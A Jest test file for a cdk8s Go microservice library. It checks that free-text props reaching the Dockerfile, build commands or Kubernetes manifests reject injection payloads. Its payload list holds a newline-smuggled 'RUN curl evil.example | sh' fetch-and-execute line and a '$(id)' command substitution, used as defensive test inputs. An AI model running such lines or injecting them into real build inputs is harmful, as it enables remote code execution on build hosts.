// Every free-text prop that reaches the Dockerfile, the build commands or the manifests is checked
// against an allow-pattern; the error names the prop and what is allowed. Each payload below would
// otherwise add a Dockerfile instruction, end a quoted value, run a command, escape a character or
// smuggle a look-alike character.
import { Testing } from 'cdk8s';
import * as YAML from 'yaml';
import {
  AppEnv, AppProbe, BaseImage, BuilderImage, GoApp, GoImageRenderer, GoMicroservice, GoMicroserviceProps, HardenedGoImageProps,
  ImageHealthCheck, ImageReference, ImageSignaturePolicy, ImageSigner, Libc, Metrics, Monitoring, NetworkEgress, PortBinding, SelfCheck,
  ServiceProbes, WritableDir,
} from '../src';

const PAYLOADS: Array<[string, string]> = [
  ['newline', 'x\nRUN curl evil.example | sh'],
  ['quotes', 'x"y\'z'],
  ['$(...)', '$(id)'],
  ['backslash', 'x\\y'],
  ['non-ASCII', 'caf\u00e9'],
];

const image = ImageReference.fromDigest('registry.example.com/acme/orders', `sha256:${'c0'.repeat(32)}`, '1.4.2');
const render = (props: Partial<HardenedGoImageProps>) => () => GoImageRenderer.render({ name: 'svc', sourceUrl: 'https://example.com/acme/svc', ...props });
const service = (props: Partial<GoMicroserviceProps>) => () => new GoMicroservice(Testing.chart(), 'orders', { image, namespace: 'shop', ...props });
const REASON = 'the reviewed exception for this service is written down here';

// [prop named in the error, how the payload reaches it]
const CASES: Array<[string, (p: string) => () => unknown]> = [
  ['netrcSecretId', (p) => render({ goPrivate: ['github.com/acme/*'], netrcSecretId: p })],
  ['goProxy', (p) => render({ goProxy: `https://proxy.example.com/${p}` })],
  ['goSumDb', (p) => render({ goSumDb: `sum.example.com${p}` })],
  ['goPrivate', (p) => render({ goPrivate: [`github.com/acme/${p}`] })],
  ['goNoSumDb', (p) => render({ goNoSumDb: [`github.com/acme/${p}`] })],
  ['goEnv.GOEXPERIMENT', (p) => render({ goEnv: { GOEXPERIMENT: p } })],
  ['buildTags', (p) => render({ buildTags: [p] })],
  ['versionVariable', (p) => render({ versionVariable: `main.${p}` })],
  ['buildDateVariable', (p) => render({ buildDateVariable: `main.${p}` })],
  ['stamp', (p) => render({ stamp: { [`main.${p}`]: '1' } })],
  ['stamp.main.channel', (p) => render({ stamp: { 'main.channel': p } })],
  ['version', (p) => render({ version: p })],
  ['commit', (p) => render({ commit: p })],
  ['mainPackage', (p) => render({ mainPackage: `./cmd/${p}` })],
  ['sourceUrl', (p) => render({ sourceUrl: `https://example.com/${p}` })],
  ['description', (p) => render({ description: p })],
  ['imageName', (p) => render({ imageName: `registry.example.com/${p}` })],
  ['context', (p) => render({ context: p })],
  ['dockerfileDir', (p) => render({ dockerfileDir: p })],
  ['entrypoint', (p) => render({ entrypoint: ['/app', p] })],
  ['command', (p) => render({ command: [`--flag=${p}`] })],
  ['selfCheckArgs', (p) => render({ selfCheckArgs: [p] })],
  ['selfCheck', (p) => () => SelfCheck.run([p])],
  ['dockerignore', (p) => render({ dockerignore: [`tmp/${p}`] })],
  ['healthCheck', (p) => render({ healthCheck: ImageHealthCheck.fromSubcommand('healthcheck', [p]) })],
  ['reason', (p) => render({ suppressions: { B17: `${REASON} ${p}` } })],
  ['BaseImage.custom: ref', (p) => () => BaseImage.custom(`registry.example.com/base:${p}`, { libc: Libc.NONE })],
  ['BuilderImage.custom: ref', (p) => () => BuilderImage.custom(`registry.example.com/go:${p}`, { libc: Libc.GLIBC })],
  ['name', (p) => service({ name: p })],
  ['namespace', (p) => service({ namespace: p })],
  ['version', (p) => service({ version: p })],
  ['component', (p) => service({ component: p })],
  ['partOf', (p) => service({ partOf: p })],
  ['env.GREETING', (p) => service({ env: { GREETING: `${p}\n` } })],
  ['secretFiles[0].mountPath', (p) => service({ secretFiles: [{ secretName: 'db', mountPath: `/etc/${p}` }] })],
  ['secretFiles[0].secretName', (p) => service({ secretFiles: [{ secretName: p, mountPath: '/etc/db' }] })],
  ['priorityClassName', (p) => service({ priorityClassName: p })],
  ['sysctls.net.ipv4.ip_unprivileged_port_start', (p) => service({ sysctls: [{ name: 'net.ipv4.ip_unprivileged_port_start', value: p }] })],
  ['fluentBitParser', (p) => service({ fluentBitParser: p })],
  ['[R09] timeZone', (p) => service({ timeZone: `Europe/${p}` })],
  ['probes: readiness path', (p) => () => ServiceProbes.http({ readiness: `/readyz${p}` })],
  ['probes.readinessService', (p) => () => ServiceProbes.grpc({ readinessService: p })],
  ['monitoring.labels.release', (p) => () => Monitoring.serviceMonitor({ labels: { release: p } })],
  ['egress.podLabels.app', (p) => () => NetworkEgress.toPods('data', { app: p }, [5432])],
  ['signer: subject', (p) => () => ImageSigner.keyless('https://token.actions.githubusercontent.com', `https://github.com/acme/${p}`)],
  ['signer: issuer', (p) => () => ImageSigner.keyless(`https://issuer.example.com/${p}`, 'https://github.com/acme/svc')],
  ['repository', (p) => () => new ImageSignaturePolicy(Testing.chart(), 'p', { repository: `registry.example.com/${p}`, signer: ImageSigner.keyless('https://issuer.example.com', 'me') })],
  ['reason', (p) => service({ suppressions: { R12: `${REASON} ${p}` } })],
  ['app.port: PortBinding.env name', (p) => () => PortBinding.env(`PORT${p}`, 8080)],
  ['app.port: PortBinding.flag flag', (p) => () => PortBinding.flag(`--port${p}`, 8080)],
  ['app.args[1]', (p) => service({ app: new GoApp({ args: ['serve', `--name=${p}`] }) })],
  ['app.command[0]', (p) => service({ app: new GoApp({ command: [`/app${p}`] }) })],
  ['app.env.GREETING', (p) => service({ app: new GoApp({ env: { GREETING: AppEnv.value(`${p}\n`) } }) })],
  ['app.metrics: path', (p) => () => Metrics.onServicePort(`/metrics${p}`)],
  ['app.writableDirs', (p) => () => WritableDir.emptyDir(`/var/lib/${p}`)],
  ['app.writableDirs[0].sizeLimit', (p) => service({ app: new GoApp({ writableDirs: [WritableDir.memory('/run/x', `1Gi${p}`)] }) })],
  ['probes: path', (p) => () => AppProbe.http(`/healthz${p}`)],
  ['probes: grpc service', (p) => () => AppProbe.grpc(`orders.v1${p}`)],
  ['probes: AppProbe.none reason', (p) => () => AppProbe.none(`${REASON} ${p}`)],
];

// Accepted on purpose (tested below): env values are YAML-quoted and the kubelet only expands $(…);
// reasons are prose ("the team's proxy") and only ever land in a comment or an annotation value.
const ACCEPTED: Record<string, string[]> = {
  'env.GREETING': ['quotes', 'backslash'], 'app.env.GREETING': ['quotes', 'backslash'], 'reason': ['quotes'], 'probes: AppProbe.none reason': ['quotes'],
};

const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe.each(CASES)('%s', (prop, build) => {
  test.each(PAYLOADS.filter(([kind]) => !ACCEPTED[prop]?.includes(kind)))('rejects %s, naming the prop and what is allowed', (_kind, payload) => {
    expect(build(payload)).toThrow(new RegExp(`^${escape(prop)}[: ].*(allowed|pattern|must)`, 's'));
  });
});

test('env values may hold quotes and backslashes: YAML quotes them and the kubelet does not read them', () => {
  const chart = Testing.chart();
  new GoMicroservice(chart, 'orders', { image, namespace: 'shop', env: { GREETING: 'say "hi" \\o/' } });
  const yaml = YAML.stringify(Testing.synth(chart));
  const dep = YAML.parse(yaml).find((o: any) => o.kind === 'Deployment');
  expect(dep.spec.template.spec.containers[0].env).toContainEqual({ name: 'GREETING', value: 'say "hi" \\o/' });
});

test('a reason with quotes stays inside its Dockerfile comment line', () => {
  const reason = `${REASON}: the "legacy" team's proxy`;
  const r = GoImageRenderer.render({ name: 'svc', suppressions: { B17: reason } });
  const lines = r.dockerfile.split('\n').filter((l) => l.includes('legacy'));
  expect(lines).toEqual([`# golden-go:suppress B17 ${reason}`]);
  expect(r.dockerfile.replace(lines[0] + '\n', '')).toBe(GoImageRenderer.render({ name: 'svc' }).dockerfile);
});
